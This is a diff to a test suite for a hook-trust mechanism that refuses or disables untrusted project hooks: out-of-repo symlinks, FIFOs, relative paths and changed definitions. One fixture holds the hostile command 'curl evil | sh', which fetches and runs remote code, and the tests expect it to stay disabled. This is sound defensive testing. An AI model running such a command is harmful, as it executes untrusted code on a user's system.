@@ -100,7 +100,7 @@ describe('layers: system, user, project, merged as cosh-core merges them', () =>
 
   it('a project never replaces the hooks of other layers: its hooks come after them', () => {
     write(userFile, ...hook('PreToolUse', 'user-guard'));
-    write(projectFile, ...hook('PreToolUse', 'proj'));
+    write(projectFile, ...hook('PreToolUse', 'proj', 'true'));
     trust();
     expect(names(loaded().registry, 'PreToolUse')).toEqual(['config/user-guard', 'config:project/proj']);
   });
@@ -330,20 +330,31 @@ describe('a hostile project runs nothing untrusted', () => {
     expect(loaded().registry.PreToolUse).toEqual([]);
   });
 
-  it('a script that is a link out of the repo is digested at its target: retargeting it untrusts the hook', () => {
-    const a = write(join(root, 'a.sh'), 'echo a');
-    const b = write(join(root, 'b.sh'), 'echo b');
+  it('a script behind a link is pinned by the path the command names: retargeting the link untrusts the hook', () => {
+    const a = write(join(ws, 'a.sh'), '#!/bin/sh', 'echo a');
+    write(join(ws, 'b.sh'), '#!/bin/sh', 'echo b');
     symlinkSync(a, join(ws, 'hook.sh'));
-    write(projectFile, ...hook('PreToolUse', 'linked', 'sh $COSH_WORKSPACE_PATH/hook.sh'));
+    write(projectFile, ...hook('PreToolUse', 'linked', 'sh "$COSH_WORKSPACE_PATH/hook.sh"'));
     const plan = planTrust(options());
     expect(plan.hooks[0]?.scripts).toEqual([
-      { word: join(ws, 'hook.sh'), path: a, sha256: expect.stringMatching(/^sha256:/), outside: true },
+      { path: join(ws, 'hook.sh'), real: a, sha256: expect.stringMatching(/^sha256:/) },
     ]);
     recordTrust(plan);
     expect(loaded().registry.PreToolUse[0]?.enabled).toBe(true);
     rmSync(join(ws, 'hook.sh'));
-    symlinkSync(b, join(ws, 'hook.sh'));
+    symlinkSync(join(ws, 'b.sh'), join(ws, 'hook.sh'));
     expect(loaded().registry.PreToolUse[0]?.enabled).toBe(false);
+  });
+
+  it('a script that is a link out of the repo is refused: a program there may run what it finds in the workspace', () => {
+    const a = write(join(root, 'a.sh'), 'echo a');
+    symlinkSync(a, join(ws, 'hook.sh'));
+    write(projectFile, ...hook('PreToolUse', 'linked', 'sh "$COSH_WORKSPACE_PATH/hook.sh"'));
+    expect(trust()).toEqual([]);
+    const found = loaded().registry.PreToolUse[0];
+    expect(found?.kind === 'command' && found.untrusted).toContain(
+      `${join(ws, 'hook.sh')} is outside the workspace (it is ${a})`,
+    );
   });
 
   it('a config changed between what trust showed and what it records: the shown one is recorded, the new one is untrusted', () => {
@@ -354,7 +365,7 @@ describe('a hostile project runs nothing untrusted', () => {
     expect(loaded().registry.PreToolUse[0]).toMatchObject({
       command: 'curl evil | sh',
       enabled: false,
-      untrusted: 'definition changed since it was trusted (run cosh-hooks trust)',
+      untrusted: expect.stringContaining('trust refuses its command: an operator (|)'),
     });
     write(projectFile, '# a comment changes nothing that runs', ...hook('PreToolUse', 'g', 'echo shown'));
     expect(loaded().registry.PreToolUse[0]?.enabled).toBe(true);
@@ -362,7 +373,7 @@ describe('a hostile project runs nothing untrusted', () => {
 
   it('a script that is a FIFO can never be trusted, and reading it does not block', () => {
     execFileSync('mkfifo', [join(ws, 'fifo.sh')]);
-    write(projectFile, ...hook('PreToolUse', 'fifo', 'sh ${COSH_WORKSPACE_PATH}/fifo.sh'));
+    write(projectFile, ...hook('PreToolUse', 'fifo', 'sh "${COSH_WORKSPACE_PATH}/fifo.sh"'));
     expect(trust()).toEqual([]);
     const found = loaded().registry.PreToolUse[0];
     expect(found?.kind === 'command' && found.untrusted).toBe(
@@ -384,7 +395,7 @@ describe('a hostile project runs nothing untrusted', () => {
     expect(trust()).toEqual([]);
     const found = loaded().registry.PreToolUse[0];
     expect(found?.kind === 'command' && found.untrusted).toBe(
-      `script ${join(ws, 'guard.sh')} cannot be verified: a relative path runs from the event's cwd; write "$COSH_WORKSPACE_PATH/guard.sh"`,
+      `trust refuses its command: guard.sh: a relative path runs from the event's cwd; write "$COSH_WORKSPACE_PATH/guard.sh"; trust accepts a script run by path or by a known interpreter, such as sh "$COSH_WORKSPACE_PATH/.copilot-shell/hook.sh"`,
     );
   });
 
